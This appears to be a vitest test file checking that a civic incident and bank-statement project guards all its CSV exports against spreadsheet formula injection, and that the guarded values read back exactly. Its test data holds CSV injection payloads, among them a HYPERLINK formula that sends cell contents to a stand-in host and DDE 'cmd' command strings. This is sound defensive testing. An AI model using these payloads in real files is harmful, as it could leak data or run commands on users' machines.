import { calendarDate, currency, type IncidentInput } from '@civic/core';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseBankStatement } from './bank/parse-bank-statement.ts';
import { GENERATED_CSV_MAPPING, writeBankCsv } from './bank/statement-writer.ts';
import { csvCell, guardCsvCell, unguardCsvCell } from './csv-cell.ts';
import { CsvRecordReader } from './incidents/csv-records.ts';
import { parseIncidentsCsv } from './incidents/parse-incidents-csv.ts';
import { renderAcledCsv } from './incidents/render-acled-csv.ts';
import { renderIncidentsCsv } from './incidents/render-incidents-csv.ts';
import { renderCsvRecord } from './journal/ledger-journal.ts';

// Payloads seen in the attack run, and each trigger character alone.
const ATTACKS = [
  '=HYPERLINK("http://evil.invalid/?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+SUM(1,2)',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
];
const TRIGGER = /^[=+\-@\t\r]/;

/** Every cell of a CSV text, as a spreadsheet would see it. */
function cells(text: string): string[] {
  const reader = new CsvRecordReader('out.csv');
  const first = reader.push(text);
  const last = reader.end();
  if (!first.ok || !last.ok) throw new Error('not CSV');
  return [...first.value, ...last.value].flatMap((r) => r.fields);
}
const dangerous = (text: string) => cells(text).filter((c) => TRIGGER.test(c) && !/^-?\d+(\.\d+)?$/.test(c));

describe('guardCsvCell', () => {
  it.each(ATTACKS)('guards %j with a leading apostrophe', (v) => {
    expect(guardCsvCell(v)).toBe(`'${v}`);
  });

  it('leaves plain numbers (negative amounts, coordinates) and harmless text as they are', () => {
    for (const v of ['-1500.00', '-43.25', '-7', '1500.00', 'Echo', "'quoted'", ''])
      expect(guardCsvCell(v)).toBe(v);
    expect(guardCsvCell('-1 500.00')).toBe("'-1 500.00");
    expect(guardCsvCell("'=already")).toBe("''=already");
  });

  it('property: reading back what was written gives the value exactly', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme' }), (v) => {
        expect(unguardCsvCell(guardCsvCell(v))).toBe(v);
        const g = guardCsvCell(v);
        if (TRIGGER.test(g)) expect(g).toMatch(/^-?\d+(\.\d+)?$/);
      }),
      { numRuns: 2000 },
    );
    expect(csvCell('=1,2')).toBe(`"'=1,2"`);
  });
});

const incident = (over: Partial<IncidentInput>): IncidentInput => ({
  date: calendarDate('2021-01-25'),
  dateTo: calendarDate('2021-01-25'),
  organisation: 'KIBHR',
  organisationId: null,
  place: 'Almaty',
  latitude: 43.2567,
  longitude: 76.9286,
  country: 'KZ',
  region: 'Almaty',
  authority: null,
  office: null,
  action: 'fine',
  legalBasis: null,
  penaltyMci: null,
  suspensionMonths: null,
  outcome: null,
  sources: [],
  notes: null,
  visibility: 'public',
  ownerOrganisationId: null,
  ...over,
});
const attacked = ATTACKS.map((a, i) =>
  incident({
    organisation: a.trim() === a ? a : `Org ${String(i)}`,
    authority: a.trim(),
    legalBasis: `@${String(i)}`,
    outcome: '-reversed',
    notes: a,
    latitude: -43.25,
  }),
);

describe('every CSV the project writes is guarded', () => {
  it('the incident CSV, and it reads back exactly', () => {
    const csv = renderIncidentsCsv(attacked);
    expect(dangerous(csv)).toEqual([]);
    expect(csv).toContain(`'=cmd|' /C calc'!A0`);
    const back = parseIncidentsCsv(new TextEncoder().encode(csv), { fileName: 'x.csv' });
    if (!back.ok) throw new Error(back.error.message);
    expect(
      back.value.incidents.map((i) => [
        i.organisation,
        i.authority,
        i.legalBasis,
        i.outcome,
        i.notes,
        i.latitude,
      ]),
    ).toEqual(
      attacked.map((i) => [i.organisation, i.authority, i.legalBasis, i.outcome, i.notes?.trim(), -43.25]),
    );
  });

  it('the ACLED CSV', () => {
    const csv = renderAcledCsv(attacked, { timestamp: 1_700_000_000 });
    expect(dangerous(csv)).toEqual([]);
    expect(csv).toContain(`'@SUM(1+1)`);
  });

  it('the ledger CSV export', () => {
    const csv = renderCsvRecord(['2021-03-05', '=HYPERLINK("x")', '-1500.00', '+7', null]);
    expect(csv).toBe(`2021-03-05,"'=HYPERLINK(""x"")",-1500.00,'+7,\r\n`);
    expect(dangerous(csv)).toEqual([]);
  });

  it('the bank CSV writer, and it reads back exactly with its negative amounts', () => {
    const documents = ATTACKS.map((a, i) => ({
      direction: i % 2 === 0 ? ('in' as const) : ('out' as const),
      amount: 150000n + BigInt(i),
      date: calendarDate('2021-03-05'),
      number: `-${String(i)}`,
      counterparty: { name: a.replace(/[\t\r]/g, ''), taxId: '@1', account: 'KZ1', sectorCode: '=21' },
      purpose: `=${a.replace(/[\t\r]/g, '')}`,
    }));
    const spec = {
      account: 'KZ716010131000012345',
      currency: currency('KZT'),
      from: calendarDate('2021-03-01'),
      to: calendarDate('2021-03-31'),
      opening: 0n,
      documents,
    };
    const bytes = writeBankCsv([spec]);
    expect(dangerous(new TextDecoder().decode(bytes))).toEqual([]);
    const back = parseBankStatement(bytes, { fileName: 'w.csv', csvMapping: GENERATED_CSV_MAPPING });
    if (!back.ok) throw new Error(back.error.message);
    expect(
      back.value.lines.map((l) => [
        l.direction,
        l.amount,
        l.counterparty.name,
        l.counterparty.taxId,
        l.counterparty.sectorCode,
        l.purpose,
        l.bankReference,
      ]),
    ).toEqual(
      documents.map((d) => [d.direction, d.amount, d.counterparty.name, '@1', '=21', d.purpose, d.number]),
    );
  });
});
